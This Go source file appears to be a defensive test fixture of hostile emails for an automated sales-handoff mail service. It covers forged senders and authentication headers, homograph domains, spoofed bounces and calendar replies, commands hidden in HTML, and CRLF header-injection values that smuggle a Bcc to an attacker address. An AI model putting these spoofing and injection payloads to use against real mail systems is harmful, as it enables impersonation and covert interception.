package main

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// Ways in which an attack comes in.
const (
	internet = "internet"             // handed to the border by anybody; the server says that authentication failed
	evil     = "mallory@evil.example" // authenticated, as somebody at another domain
	asPat    = "pat@globex.example"   // the prospect, authenticated
	asRita   = "rita@acme.example"    // the rep, authenticated: what somebody else made her send on
)

// attack is one mail that must change nothing. {THREAD} is the reply address of the thread, {RITA} and {QUINN} those of
// mails to one colleague, {OLD} one that has expired, {UID} the prospect's event, {TURN} the rep's, {INTRO} the
// Message-ID of the introduction.
type attack struct {
	name string
	way  string
	head string // without To, Subject and Message-ID, which are added where they are missing
	body string
}

const (
	fromRita = "From: Rita Vance <rita@acme.example>\n"
	fromEvil = "From: Mallory <mallory@evil.example>\n"
	inThread = "To: {THREAD}\nCc: pat@globex.example\nIn-Reply-To: <{INTRO}>\n"
	hello    = "Hello Pat, I look forward to it.\n"
	trusted  = "Authentication-Results: mx.acme.example; dmarc=pass header.from=acme.example\n"
)

// identities forge who writes.
var identities = []attack{
	{"forged From: reply", internet, fromRita + inThread, hello},
	{"forged From: command of a manager", internet, "From: olga@acme.example\nTo: {THREAD}\n", "assign Rita\n"},
	{"forged From: cancel of the qualifier", internet, "From: quinn@acme.example\nTo: {THREAD}\n", "cancel\n"},
	{"forged From: a new brief", internet, "From: quinn@acme.example\nTo: handoff@acme.example\n",
		"Contact: Eve <eve@evil.example>\nCompany: Evil\nWhen: 2030-01-08 15:00\nNeed: x\nPain: y\nTimeframe: now\n"},
	{"plus variant of the rep", internet, "From: rita+x@acme.example\nTo: {THREAD}\n", "decline\n"},
	{"trailing dot", evil, "From: rita@acme.example.\nTo: {THREAD}\n", "decline\n"},
	{"aligned with another domain", evil, fromRita + "To: {THREAD}\n", "decline\n"},
	{"lookalike: longer", evil, "From: rita@acme.example.evil.example\nTo: {THREAD}\n", "decline\n"},
	{"lookalike: homograph", evil, "From: rita@аcme.example\nTo: {THREAD}\n", "decline\n"},
	{"lookalike: homograph in ASCII", evil, "From: rita@xn--cme-8cd.example\nTo: {THREAD}\n", "decline\n"},
	{"subdomain", evil, "From: rita@mail.acme.example\nTo: {THREAD}\n", "decline\n"},
	{"display name is an address", evil, "From: \"rita@acme.example\" <mallory@evil.example>\nTo: {THREAD}\n",
		"decline\n"},
	{"display name in encoded words", evil, "From: =?utf-8?q?Rita_Vance_=3Crita=40acme=2Eexample=3E?= " +
		"<mallory@evil.example>\nTo: {THREAD}\n", "decline\n"},
	{"two From fields", evil, fromRita + fromEvil + "To: {THREAD}\n", "decline\n"},
	{"two addresses in From", evil, "From: rita@acme.example, mallory@evil.example\nTo: {THREAD}\n", "decline\n"},
	{"From as a group", evil, "From: Acme: rita@acme.example, mallory@evil.example;\nTo: {THREAD}\n", "decline\n"},
	{"From with a comment", evil, "From: mallory@evil.example (rita@acme.example)\nTo: {THREAD}\n", "decline\n"},
	{"From with two angles", evil, "From: <rita@acme.example> <mallory@evil.example>\nTo: {THREAD}\n", "decline\n"},
	{"From with a source route", evil, "From: <@acme.example,@x.example:mallory@evil.example>\nTo: {THREAD}\n",
		"decline\n"},
	{"Sender of the rep", evil, "Sender: rita@acme.example\n" + fromEvil + "To: {THREAD}\n", "decline\n"},
	{"Reply-To of the rep", evil, "Reply-To: rita@acme.example\n" + fromEvil + "To: {THREAD}\n", "decline\n"},
	{"from the handoff address itself", internet, "From: handoff@acme.example\nTo: {THREAD}\n", "accept\n"},
	{"another machine like us", asRita, fromRita + "To: {RITA}\nX-Handoff-Id: 0123456789abcdef0123456789abcdef\n",
		"decline\n"},
	{"the prospect, forged", internet, "From: pat@globex.example\nTo: {THREAD}\n", "I accept everything.\n"},
}

// results forge what the server says of the sender.
var results = []attack{
	{"forged results", internet, trusted + fromRita + inThread, hello},
	{"forged results: case, folds, comments", internet, "Authentication-Results: (a (b) c)\n MX.Acme.Example (x) 1 ; " +
		"dmarc = pass\n header.from = acme.example\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged results: quoted id", internet, "Authentication-Results: \"mx.acme.example\"; dmarc=pass " +
		"header.from=acme.example\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged results: duplicate", evil, trusted + trusted + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged results: nested in a comment", evil, "Authentication-Results: mx.evil.example (; mx.acme.example; " +
		"dmarc=pass header.from=acme.example); none\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged results: nested in a quote", evil, "Authentication-Results: mx.evil.example; spf=pass smtp.mailfrom=\"x; " +
		"dmarc=pass header.from=acme.example\"\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged gateway", evil, "Received: from mx.acme.example (mx.acme.example [127.0.0.1]) by mx.acme.example; Mon, 1 " +
		"Jan 2030 00:00:00 +0000\n" + trusted + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged ARC", evil, "ARC-Seal: i=1; a=rsa-sha256; cv=none; d=acme.example; s=x; b=x\nARC-Authentication-Results: " +
		"i=1; mx.acme.example; dmarc=pass header.from=acme.example\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged Exchange mark", evil, "X-MS-Exchange-Organization-AuthAs: Internal\nX-MS-Exchange-CrossTenant-AuthAs: " +
		"Internal\n" + fromRita + "To: {THREAD}\n", "decline\n"},
	{"forged Received-SPF", evil, "Received-SPF: pass (acme.example) client-ip=192.0.2.1\n" + fromRita + "To: {THREAD}\n",
		"decline\n"},
}

// secrets try reply addresses.
var secrets = []attack{
	{"the thread token, a stranger", evil, fromEvil + "To: {THREAD}\n", "accept\n"},
	{"somebody else's reply address", evil, fromRita + "To: {QUINN}\n", "decline\n"},
	{"a stranger with a colleague's reply address", evil, fromEvil + "To: {RITA}\n", "decline\n"},
	{"a guessed reply address", evil, fromRita + "To: handoff+aaaaaaaaaaaaaaaa@acme.example\n", "decline\n"},
	{"an expired reply address", evil, fromRita + "To: {OLD}\n", "decline\n"},
	{"a reply address shown to others", evil, fromRita + "To: {OLD}\nCc: pat@globex.example\n", "decline\n"},
	{"replay of a genuine mail", internet, fromRita + "To: {RITA}\nMessage-ID: <genuine@acme.example>\nDate: {GENUINE}\n",
		"status\n"},
	{"out-of-office in the rep's name", internet, fromRita + inThread + "Auto-Submitted: auto-replied\n",
		"I am out of office until 1 March 2031.\n"},
}

// reports are what machines say.
var reports = []attack{
	{"bounce of no mail of ours", evil, "From: MAILER-DAEMON@evil.example\n" + bounceHead,
		bounceBody("pat@globex.example", "<none@acme.example>")},
	{"bounce of a mail to somebody else", evil, "From: MAILER-DAEMON@evil.example\n" + bounceHead,
		bounceBody("rita@acme.example", "<{INTRO}>")},
	{"complaint about no mail of ours", evil, fromEvil + "Content-Type: multipart/report; report-type=feedback-report; " +
		"boundary=b\n",
		"--b\nContent-Type: text/plain\n\nabuse\n--b\nContent-Type: message/feedback-report\n\nFeedback-Type: " +
			"abuse\nVersion: 1\nOriginal-Rcpt-To: pat@globex.example\n\n--b--\n"},
	{"REPLY of the prospect for the rep", asPat, "From: pat@globex.example\n" + calendarHead("REPLY"),
		attackEvent("REPLY", "{UID}", "rita@acme.example", "ACCEPTED", "")},
	{"REPLY with a wrong UID", evil, fromRita + calendarHead("REPLY"),
		attackEvent("REPLY", "none@handoffd", "rita@acme.example", "ACCEPTED", "")},
	{"REPLY of the prospect for the rep, under the rep's UID", asPat,
		"From: pat@globex.example\n" + calendarHead("REPLY"), attackEvent("REPLY", "{TURN}", "rita@acme.example", "ACCEPTED",
			"")},
	{"REPLY in the rep's name, failed", internet, fromRita + calendarHead("REPLY"),
		attackEvent("REPLY", "{TURN}", "rita@acme.example", "DECLINED", "")},
	{"REPLY of somebody not invited", evil, fromEvil + calendarHead("REPLY"),
		attackEvent("REPLY", "{UID}", "mallory@evil.example", "DECLINED", "")},
	{"REPLY in a forwarded mail", asRita, fromRita + "To: {RITA}\nContent-Type: multipart/mixed; boundary=b\n",
		"--b\nContent-Type: text/plain\n\nLook at this.\n--b\nContent-Type: message/rfc822\n\nFrom: rita@acme.example\n" + calendarHead("REPLY") + "\n" + attackEvent("REPLY", "{TURN}", "rita@acme.example", "DECLINED", "") + "\n--b--\n"},
	{"CANCEL of a stranger", evil, fromEvil + calendarHead("CANCEL"),
		attackEvent("CANCEL", "{UID}", "rita@acme.example", "NEEDS-ACTION", "")},
	{"REQUEST of a stranger", evil, fromEvil + calendarHead("REQUEST"),
		attackEvent("REQUEST", "{UID}", "rita@acme.example", "ACCEPTED", "")},
	{"COUNTER in the rep's name", internet, fromRita + calendarHead("COUNTER"),
		attackEvent("COUNTER", "{UID}", "rita@acme.example", "TENTATIVE", "")},
	{"command in the comment of an answer", asRita, fromRita + calendarHead("REPLY"),
		attackEvent("REPLY", "{TURN}", "rita@acme.example", "NEEDS-ACTION", "COMMENT:decline\n")},
	{"calendar parameters that inject", evil, fromEvil + calendarHead("REPLY"),
		attackEvent("REPLY", "{TURN}", "rita@acme.example", "ACCEPTED:mailto:x",
			"ATTENDEE;CN=\"a^n\nX-Injected: 1\":mailto:rita@acme.example\n")},
}

const bounceHead = "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n"

func bounceBody(recipient, returned string) string {
	return "--b\nContent-Type: text/plain\n\nfailed\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; " +
		"mx.evil.example\n\nFinal-Recipient: rfc822; " + recipient +
		"\nAction: failed\nStatus: 5.1.1\n\n--b\nContent-Type: text/rfc822-headers\n\nMessage-ID: " + returned + "\n\n--b--\n"
}

func calendarHead(method string) string {
	return "Content-Type: text/calendar; method=" + method + "; charset=utf-8\n"
}

func attackEvent(method, uid, attendee, partstat, more string) string {
	return "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//x//x//EN\nMETHOD:" + method + "\nBEGIN:VEVENT\nUID:" + uid + "\nDTSTAMP:20300101T000000Z\nDTSTART:20300108T140000Z\nDTEND:20300108T143000Z\nSEQUENCE:0\n" +
		"ORGANIZER:mailto:handoff@acme.example\nATTENDEE;PARTSTAT=" + partstat + ":mailto:" + attendee + "\n" + more + "END:VEVENT\nEND:VCALENDAR\n"
}

// hidden carry a command where nobody wrote it as new, visible text. The rep herself sends them, on behalf of whoever
// made them.
func hidden() []attack {
	const seen = "I will have a look at it this week."
	html := func(what string) string {
		return "<html><body><p>" + seen + "</p>" + what + "</body></html>\n"
	}
	plain := func(name, body string) attack {
		return attack{"command " + name, asRita, fromRita + "To: {RITA}\n", body}
	}
	rich := func(name, what string) attack {
		return attack{"command " + name, asRita, fromRita + "To: {RITA}\nContent-Type: text/html; charset=utf-8\n",
			html(what)}
	}
	return []attack{
		plain("in a quote", seen+"\n\nOn Monday somebody wrote:\n> decline\n"),
		plain("in a forwarded mail", seen+"\n\n---------- Forwarded message ---------\nFrom: Mallory "+
			"<mallory@evil.example>\nSubject: x\n\ndecline\n"),
		plain("in a signature", seen+"\n\n-- \ndecline\n"),
		{"command in an attachment", asRita, fromRita + "To: {RITA}\nContent-Type: multipart/mixed; boundary=b\n",
			"--b\nContent-Type: text/plain\n\n" + seen + "\n--b\nContent-Type: text/plain; name=x.txt\nContent-Disposition: " +
				"attachment; filename=x.txt\n\ndecline\n--b--\n"},
		rich("in an HTML comment", "<!-- decline --><!--\ndecline\n-->"),
		rich("in hidden text", `<div style="display:none">decline</div><p hidden>decline</p>`),
		rich("in white text",
			`<p style="color:#ffffff;background:#fff">decline</p><p><font color="white">decline</font></p>`),
		rich("in tiny text", `<p style="font-size:0">decline</p><p style="font-size:1px;line-height:0;max-height:0;`+
			`overflow:hidden">decline</p>`),
		rich("off the screen", `<p style="position:absolute;left:-9999px">decline</p><p `+
			`style="text-indent:-9999px">decline</p>`),
		rich("in the text of a picture", `<img src="cid:x" alt="decline" title="decline">`),
		rich("in script, style and title", "<title>decline</title><style>decline</style><script>decline</script>"),
	}
}

// floods are large, deep or try to break out of a field.
func floods() []attack {
	var deep strings.Builder
	for i := range 90 { // Postfix refuses more than a hundred
		fmt.Fprintf(&deep, "--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n", i, i+1)
	}
	return []attack{
		{"injection by subject", asPat, "From: pat@globex.example\nTo: {THREAD}\nSubject: " +
			"=?utf-8?q?Re=3A_x=0D=0AX-Injected=3A_1=0D=0ABcc=3A_mallory=40evil=2Eexample?=\n", "Thank you.\n"},
		{"injection by name", asPat, "From: =?utf-8?q?Pat=0D=0AX-Injected=3A_1?= <pat@globex.example>\nTo: {THREAD}\n",
			"Thank you again.\n"},
		{"injection by Message-ID", asPat, "From: pat@globex.example\nTo: {THREAD}\nMessage-ID: <x\n X-Injected: " +
			"1@globex.example>\n", "Thanks.\n"},
		{"injection by file name", asPat, "From: pat@globex.example\nTo: {THREAD}\nContent-Type: multipart/mixed; " +
			"boundary=b\n",
			"--b\nContent-Type: text/plain\n\nSee attachment.\n--b\nContent-Type: application/pdf; " +
				"name=\"=?utf-8?q?x=0D=0AX-Injected=3A_1.pdf?=\"\nContent-Disposition: attachment\n\nx\n--b--\n"},
		{"ninety parts deep", evil, fromEvil + "To: {THREAD}\nContent-Type: multipart/mixed; boundary=b0\n", deep.String()},
		{"twelve megabytes of base64 in forged mail", internet, fromRita + "To: {THREAD}\nContent-Type: multipart/mixed; " +
			"boundary=b\n",
			"--b\nContent-Type: text/plain\n\ndecline\n--b\nContent-Type: application/zip\nContent-Transfer-Encoding: base64\n\n" + base64Lines(9<<20) + "\n--b--\n"},
		{"a thousand header fields", internet, strings.Repeat("X-A: b\n", 1000) + fromRita + "To: {THREAD}\n", "decline\n"},
		{"a line of a megabyte", evil, fromEvil + "To: {THREAD}\n", strings.Repeat("decline ", 1<<17) + "\n"},
	}
}

func base64Lines(n int) string {
	line := base64.StdEncoding.EncodeToString(make([]byte, 54)) + "\n"
	return strings.Repeat(line, n/54)
}
